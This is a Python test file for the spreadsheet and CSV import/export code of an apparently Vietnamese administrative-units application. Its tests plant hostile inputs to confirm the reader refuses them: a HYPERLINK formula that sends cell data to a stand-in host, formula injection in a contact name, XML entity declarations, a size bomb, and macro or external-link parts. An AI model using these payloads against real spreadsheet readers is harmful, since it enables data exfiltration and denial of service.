import io
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from tests.unit.web.office.conftest import NOW, TODAY

from quetsach.campaign.authority import Role
from quetsach.campaign.errors import UnitsError
from quetsach.campaign.units.cells import write_csv
from quetsach.campaign.units.table import UNIT_COLUMNS, contact_rows, read_tables, unit_rows
from quetsach.core.table import guarded
from quetsach.installation import bundled, bundled_country
from quetsach.web.office.log.models import LogEntry
from quetsach.web.office.refusal import AccessError
from quetsach.web.office.tree.models import Contact, ImportDraft, Position, Succession, Unit
from quetsach.web.office.tree.records import contact_records, unit_records
from quetsach.web.office.units.selectors import as_csv, as_xlsx, export_tables
from quetsach.web.office.units.services.contacts import contact_add
from quetsach.web.office.units.services.importing import (
    Loaded,
    draft_drop,
    draft_keep,
    import_preview,
    units_import,
    units_load,
)
from quetsach.web.office.units.spreadsheet import read_xlsx, stream_xlsx, write_xlsx

CODES = bundled_country().unit_codes
NEW = ("305-2020", "305", "Quận Lê Chân", "Le Chan District", "district", "31-2020", "2020-01-01", "2025-07-01", "")


def _units_file(*rows: tuple[str, ...]) -> tuple[str, bytes]:
    return "don-vi.csv", write_csv([UNIT_COLUMNS, *rows])


def _xlsx(**sheets: list[list[object]]) -> bytes:
    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _repacked(content: bytes, change) -> bytes:
    """Return an XLSX whose parts went through ``change(name, bytes)``; what that adds is added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
    return out.getvalue()


def test_a_preview_changes_nothing(units) -> None:
    preview = import_preview(files=[_units_file(NEW)], by=None, now=NOW)
    assert [unit.key for unit in preview.plan.added] == ["305-2020"]
    assert not Unit.objects.filter(key="305-2020").exists()
    assert not LogEntry.objects.exists()


def test_an_import_adds_units_and_their_places(units) -> None:
    units_import(files=[_units_file(NEW)], expected=None, by=None, now=NOW)
    assert Position.objects.get(unit__key="305-2020").path == "/tw/31-2020/305-2020/"
    entry = LogEntry.objects.get(act="units-import")
    assert (entry.detail["added"], entry.detail["units"]) == (1, ["305-2020"])


def test_a_file_with_one_fault_changes_nothing_at_all(units) -> None:
    bad = ("306-2020", "306", "Quận Hải An", "", "district", "99-2020", "2020-01-01", "2025-07-01", "")
    with pytest.raises(UnitsError, match="there is no unit 99-2020") as refused:
        units_import(files=[_units_file(NEW, bad)], expected=None, by=None, now=NOW)
    assert refused.value.where == "don-vi.csv, 3, parent"
    assert not Unit.objects.filter(key="305-2020").exists()


def test_what_is_applied_is_what_was_looked_at(units) -> None:
    digest = import_preview(files=[_units_file(NEW)], by=None, now=NOW).digest
    Unit.objects.filter(key="31-2020").update(name_en="Hai Phong")
    units_import(files=[_units_file(NEW)], expected=digest, by=None, now=NOW)
    Unit.objects.filter(key="305-2020").update(name_en="Other")
    with pytest.raises(UnitsError, match="changed since the preview"):
        units_import(files=[_units_file(NEW)], expected=digest, by=None, now=NOW)


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_importing_an_export_changes_nothing(units, person, form: str) -> None:
    operator = person(Role.OPERATOR)
    contact_add(
        unit=units["303-2020"],
        name="=1+1",
        title="@x",
        email="a@b.example",
        phone="+84 225 1",
        is_primary=True,
        by=operator,
        now=NOW,
    )
    tables = export_tables(None, day=TODAY)
    files = (
        [("all.xlsx", b"".join(as_xlsx(tables)))]
        if form == "xlsx"
        else [(f"{name}.csv", as_csv(rows)) for name, rows in tables.items()]
    )
    preview = import_preview(files=files, by=None, now=NOW)
    assert (preview.plan.is_empty, preview.faults) == (True, ())


def test_an_export_of_a_subtree_holds_nothing_beside_it(units, person) -> None:
    operator, viewer = person(Role.OPERATOR), person(Role.VIEWER, "303-2020")
    for key in ("303-2020", "304-2020"):
        contact_add(
            unit=units[key], name=key, title="", email="a@b.example", phone="", is_primary=True, by=operator, now=NOW
        )
    tables = export_tables(viewer, day=TODAY)
    assert {row[0] for row in tables["units"][1:]} == {"303-2020", "11296-2020", "11299-2020"}
    assert [row[0] for row in tables["contacts"][1:]] == ["303-2020"]


def test_the_successor_of_a_province_exports_its_past_too(units, person) -> None:
    viewer = person(Role.VIEWER, "31-2025", first=date(2025, 7, 1))
    keys = {row[0] for row in export_tables(viewer, day=date(2026, 1, 1))["units"][1:]}
    assert keys == {
        "31-2025",
        "11296-2025",
        "31-2020",
        "303-2020",
        "304-2020",
        "11296-2020",
        "11299-2020",
        "11320-2020",
    }


def test_contacts_of_an_import_replace_those_of_the_named_units(units, person) -> None:
    operator = person(Role.OPERATOR)
    values = {"name": "Cũ", "title": "", "phone": "", "is_primary": True, "by": operator, "now": NOW}
    kept = contact_add(unit=units["304-2020"], email="kept@b.example", **values)
    old = contact_add(unit=units["303-2020"], email="old@b.example", **values)
    Contact.objects.filter(pk=old.pk).update(bounced_on=TODAY)
    [former] = contact_records()["303-2020"]
    rows = contact_rows([replace(former, name="Mới"), replace(former, email="new@b.example", is_primary=False)])
    units_import(files=[("lien-he.csv", write_csv(rows))], expected=None, by=operator, now=NOW)
    found = {c.email: (c.name, c.bounced_on) for c in Contact.objects.filter(unit=units["303-2020"])}
    assert found == {"old@b.example": ("Mới", TODAY), "new@b.example": ("Cũ", None)}
    assert Contact.objects.filter(pk=kept.pk).exists()


def test_only_operators_import(units, person) -> None:
    approver = person(Role.APPROVER, "31-2020")
    for act in (
        lambda: import_preview(files=[_units_file(NEW)], by=approver, now=NOW),
        lambda: units_import(files=[_units_file(NEW)], expected=None, by=approver, now=NOW),
        lambda: draft_keep(file=_units_file(NEW), by=approver, now=NOW),
    ):
        with pytest.raises(AccessError):
            act()


def test_a_draft_is_kept_until_a_newer_one_or_until_dropped(units, person) -> None:
    operator = person(Role.OPERATOR)
    draft_keep(file=("a.csv", b"a"), by=operator, now=NOW)
    draft_keep(file=("b.csv", b"b"), by=operator, now=NOW)
    assert [(draft.name, bytes(draft.content)) for draft in ImportDraft.objects.all()] == [("b.csv", b"b")]
    draft_drop(by=operator)
    assert not ImportDraft.objects.exists()


def test_the_tables_of_this_build_load_once_and_leave_corrections_alone(db) -> None:
    folder = bundled("data") / "units"
    files = [(path.name, path.read_bytes()) for path in sorted(folder.glob("*.csv"))]
    now = datetime(2026, 11, 26, tzinfo=UTC)
    assert units_load(files=files, now=now).added > 14_000
    Unit.objects.filter(key="tw").update(name_vi="Trung tâm của tôi")
    Unit.objects.filter(key="evn-2020").delete()
    assert units_load(files=files, now=now) == Loaded(1, ())
    assert Unit.objects.get(key="tw").name_vi == "Trung tâm của tôi"
    levels = Position.objects.on(date(2020, 10, 6)).filter(path__startswith="/tw/31-2020/")
    assert levels.filter(level=3).count() > 150
    assert Position.objects.on(date(2026, 1, 1)).filter(level=2, unit__kind="commune").count() == 3_321


LOADED = """\
key,code,name_vi,name_en,kind,parent,opened,closed,decree,exchange_code
tw,TW,Trung tâm,,centre,,2020-01-01,,,
75-2025,75,Tỉnh Đồng Nai,,province,tw,2025-07-01,,,
26365-2020,26365,Xã Cũ,,commune,75-2025,2025-07-01,2025-08-01,,
26368-2025,26368,Xã Long Thành,,commune,75-2025,2025-07-01,,,
26371-2025,26371,Xã Khác,,commune,75-2025,2025-07-01,,,
"""
FOLLOWED = """\
old,new,on,decree,share
26365-2020,26368-2025,2025-08-01,,0.5
26365-2020,26371-2025,2025-08-01,,0.5
"""
NEWER = """\
key,code,name_vi,name_en,kind,parent,opened,closed,decree,exchange_code
75-2025,75,Tỉnh Đồng Nai,,province,tw,2025-07-01,2026-04-30,,
75-2026,75,Thành phố Đồng Nai,,province,tw,2026-04-30,,,
26368-2025,26368,Xã Long Thành,,commune,75-2025,2025-07-01,2026-04-30,,
26368-2026,26368,Phường Long Thành,,commune,75-2026,2026-04-30,,,
26371-2025,26371,Xã Khác,,commune,75-2025; 2026-04-30: 75-2026,2025-07-01,,,
26399-2026,26399,Xã Mới,,commune,75-2026,2026-05-01,,,
"""
MENDED = """\
old,new,on,decree,share
26365-2020,26371-2025,2025-08-01,,1
26368-2025,26368-2026,2026-04-30,,1
75-2025,75-2026,2026-04-30,,1
"""


def test_a_build_that_mends_and_renews_leaves_what_is_there_and_can_be_taken_over(db) -> None:
    now = datetime(2026, 11, 26, tzinfo=UTC)
    older = [("units.csv", LOADED.encode()), ("successions.csv", FOLLOWED.encode())]
    newer = [("units.csv", NEWER.encode()), ("successions.csv", MENDED.encode())]
    assert units_load(files=older, now=now) == Loaded(5, ())
    before = set(Succession.objects.values_list("old__key", "new__key", "share"))
    assert units_load(files=newer, now=now) == Loaded(0, ("75-2026", "26368-2026", "26399-2026"))
    assert set(Succession.objects.values_list("old__key", "new__key", "share")) == before
    assert import_preview(files=newer, by=None, now=now).plan.dropped == (("26365-2020", "26368-2025"),)
    units_import(files=newer, expected=None, by=None, now=now)
    assert set(Succession.objects.values_list("old__key", "new__key")) == {
        ("26365-2020", "26371-2025"),
        ("26368-2025", "26368-2026"),
        ("75-2025", "75-2026"),
    }
    assert Position.objects.on(date(2026, 5, 1)).get(unit__key="26371-2025").path == "/tw/75-2026/26371-2025/"


def test_numbers_and_days_of_a_spreadsheet_are_read_as_written() -> None:
    opened = datetime(2020, 1, 1)  # noqa: DTZ001  (spreadsheets know no zone)
    row = ["305-2020", 305, "Quận Lê Chân", None, "district", "31-2020", opened, date(2025, 7, 1), 1.0]
    [sheet] = read_xlsx(_xlsx(units=[list(UNIT_COLUMNS), row]), name="x")
    unit = read_tables([sheet], CODES).units["305-2020"]
    assert (unit.code, unit.opened, unit.closed, unit.decree) == ("305", date(2020, 1, 1), date(2025, 7, 1), "1")


def test_a_code_that_lost_its_zero_in_a_spreadsheet_is_told() -> None:
    row = ["01-2020", 1, "Hà Nội", None, "province", "tw", "2020-01-01", None, None]
    tables = read_tables(read_xlsx(_xlsx(units=[list(UNIT_COLUMNS), row]), name="x"), CODES)
    assert [(fault.row, fault.column) for fault in tables.faults] == [(2, "code")]


@pytest.mark.parametrize("column", range(9))
def test_a_formula_is_told_and_never_calculated(column: int) -> None:
    row = list(NEW)
    row[column] = '=HYPERLINK("http://x.example/?"&A1,"x")'
    tables = read_tables(read_xlsx(_xlsx(units=[list(UNIT_COLUMNS), row]), name="x"), CODES)
    assert ("a formula" in tables.faults[0].what.en, tables.faults[0].column) == (True, UNIT_COLUMNS[column])


def test_faults_of_a_workbook_name_sheet_row_and_column() -> None:
    tables = read_tables(read_xlsx(_xlsx(rubbish=[], units=[list(UNIT_COLUMNS), [], ["x y"]]), name="f.xlsx"), CODES)
    assert ("f.xlsx: units", 3, "key") in [(fault.sheet, fault.row, fault.column) for fault in tables.faults]


def _with_doctype(name: str, part: bytes) -> bytes:
    if name != "xl/worksheets/sheet1.xml":
        return part
    declaration, _, rest = part.partition(b"<worksheet")
    return declaration + b'<!DOCTYPE x [<!ENTITY a "b">]>' + b"<worksheet" + rest


def _hidden_doctype(name: str, part: bytes) -> bytes:
    if name != "xl/worksheets/sheet1.xml":
        return part
    return b" " * 5000 + b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet/>'


def _in_utf16(name: str, part: bytes) -> bytes:
    return part.decode().encode("utf-16") if name == "xl/worksheets/sheet1.xml" else part


def _bomb(name: str, part: bytes) -> bytes:
    return part + b" " * (65 << 20) if name == "xl/worksheets/sheet1.xml" else part


@pytest.mark.parametrize("change", [_with_doctype, _hidden_doctype, _in_utf16, _bomb])
def test_a_workbook_that_would_grow_or_declares_entities_is_refused(change) -> None:
    content = _repacked(_xlsx(units=[list(UNIT_COLUMNS), list(NEW)]), change)
    with pytest.raises(UnitsError):
        read_xlsx(content, name="x")


@pytest.mark.parametrize("part", ["xl/externalLinks/externalLink1.xml", "xl/vbaProject.bin", "xl/embeddings/a.bin"])
def test_a_workbook_with_links_macros_or_objects_is_refused(part: str) -> None:
    content = io.BytesIO(_xlsx(units=[list(UNIT_COLUMNS)]))
    with zipfile.ZipFile(content, "a") as archive:
        archive.writestr(part, "<x/>")
    with pytest.raises(UnitsError, match="links to other files"):
        read_xlsx(content.getvalue(), name="x")


def test_a_workbook_of_too_many_parts_or_rows_is_refused() -> None:
    content = io.BytesIO(_xlsx(units=[list(UNIT_COLUMNS)]))
    with zipfile.ZipFile(content, "a") as archive:
        for n in range(201):
            archive.writestr(f"x{n}", "")
    with pytest.raises(UnitsError, match="too large"):
        read_xlsx(content.getvalue(), name="x")
    far = _repacked(
        _xlsx(units=[["a"]]), lambda name, part: part.replace(b'r="1"', b'r="900000"').replace(b"A1", b"A900000")
    )
    with pytest.raises(UnitsError, match="too large"):
        read_xlsx(far, name="x")


_SOUND = write_xlsx({"units": [UNIT_COLUMNS, NEW]})


@given(st.data())
@settings(max_examples=60, suppress_health_check=[HealthCheck.filter_too_much])
def test_a_damaged_workbook_is_read_or_refused_and_nothing_else(data: st.DataObject) -> None:
    content = bytearray(_SOUND)
    for _ in range(data.draw(st.integers(1, 4))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(content)))
    for damaged in (bytes(content), bytes(content[:cut])):
        try:
            read_tables(read_xlsx(damaged, name="x"), CODES)
        except UnitsError as refused:
            assert refused.text.vi


def test_every_unit_is_stored_as_its_record(units) -> None:
    tables = read_tables([*read_xlsx(write_xlsx({"units": unit_rows(unit_records().values())}), name="x")], CODES)
    assert tables.units == unit_records()


def test_a_row_with_a_fault_still_tells_that_its_unit_is_unknown(units) -> None:
    """All that is wrong is told at one look, and a unit whose own row has a fault is not called unknown."""
    unit = ("305-2020", "305", "", *NEW[3:], "")  # its name is missing
    contacts = (
        "unit,name,title,email,phone,is_primary\n99999-2025,A,,no mail,0225 3842 119,yes\n305-2020,B,,b@x.vn,,no\n"
    )
    files = [_units_file(unit), ("dau-moi.csv", contacts.encode())]
    faults = {(f.column, f.what.vi) for f in import_preview(files=files, by=None, now=NOW).faults}
    assert ("unit", "không có đơn vị 99999-2025") in faults
    assert not any("305-2020" in what for _column, what in faults)


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        ("Bad3.xlsx", b"\xff\xfe no workbook", "tệp bị hỏng"),
        ("cu.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "dạng cũ (.xls)"),
        ("x.csv", b"key,code\nok,1\n\xff,2\n", "dòng 3: không phải văn bản UTF-8"),
    ],
)
def test_a_file_of_the_wrong_form_is_told_by_what_it_is(units, name: str, content: bytes, told: str) -> None:
    with pytest.raises(UnitsError) as refused:
        import_preview(files=[(name, content)], by=None, now=NOW)
    assert (refused.value.where, told in refused.value.text.vi) == (name, True)


def test_a_workbook_is_on_its_way_before_its_last_row_is_made() -> None:
    made = 0

    def rows() -> Iterator[tuple[str, ...]]:
        nonlocal made
        for made in range(1, 5001):
            yield (f"{made:05}", "x")

    pieces = stream_xlsx({"units": rows()})
    first = next(pieces)
    assert first.startswith(b"PK")
    assert made < 5000
    content = first + b"".join(pieces)
    assert made == 5000
    sheet = load_workbook(io.BytesIO(content))["units"]
    assert sheet.max_row == 5000
    assert (sheet["A5000"].value, sheet["A5000"].number_format, sheet.freeze_panes) == ("05000", "@", "A2")


CELLS = st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"]), max_size=20)


@given(st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=5), st.lists(st.tuples(CELLS), max_size=3))
@settings(max_examples=60, deadline=None)
def test_what_is_written_is_what_another_reader_reads(units: list[tuple[str, str]], contacts: list[tuple[str]]) -> None:
    book = load_workbook(io.BytesIO(write_xlsx({"units": units, "contacts": contacts})))
    for title, rows in (("units", units), ("contacts", contacts)):
        for number, row in enumerate(rows, start=1):
            cells = [book[title].cell(number, column) for column in range(1, len(row) + 1)]
            assert [cell.value or "" for cell in cells] == [guarded(text) for text in row]
            assert all(cell.data_type != "f" for cell in cells)


def test_a_character_that_xml_forbids_does_not_break_the_workbook() -> None:
    book = load_workbook(io.BytesIO(write_xlsx({"units": [("a\x00b\x1f", "<&>")]})))
    assert [cell.value for cell in book["units"][1]] == ["a\ufffdb\ufffd", "<&>"]
